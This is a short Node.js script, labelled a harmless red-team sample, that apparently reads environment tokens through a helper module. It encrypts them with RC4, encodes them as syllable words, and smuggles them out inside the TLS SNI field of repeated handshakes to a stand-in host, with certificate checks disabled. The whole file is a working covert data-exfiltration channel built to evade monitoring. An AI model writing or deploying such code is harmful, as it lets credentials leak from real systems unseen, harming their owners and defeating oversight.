'use strict';
// Harmless red-team sample: env tokens -> RC4 -> syllable words carried only in the TLS SNI of handshakes to one fixed host name
// (DNS only for the fixed name, no HTTP request, no application data; connection closed as soon as it is up or fails).
const tls = require('tls');
const { secret, rc4, words } = require('./util');
const w = words(rc4('sni-probe-0xC0FFEE', secret()));
const names = [];
for (let i = 0; i < w.length; i += 12) names.push(w.slice(i, i + 6).join('') + '.' + w.slice(i + 6, i + 12).join('') + '.edge' + (names.length % 4) + '.cdn-probe.invalid');
let k = 0;
(function next() {
  if (k >= names.length) return;
  const s = tls.connect({ host: 'edge.cdn-probe.invalid', port: 443, servername: names[k++], rejectUnauthorized: false });
  const done = () => { s.destroy(); setTimeout(next, 20); };
  s.once('secureConnect', done); s.once('error', done); s.setTimeout(2000, done);
})();
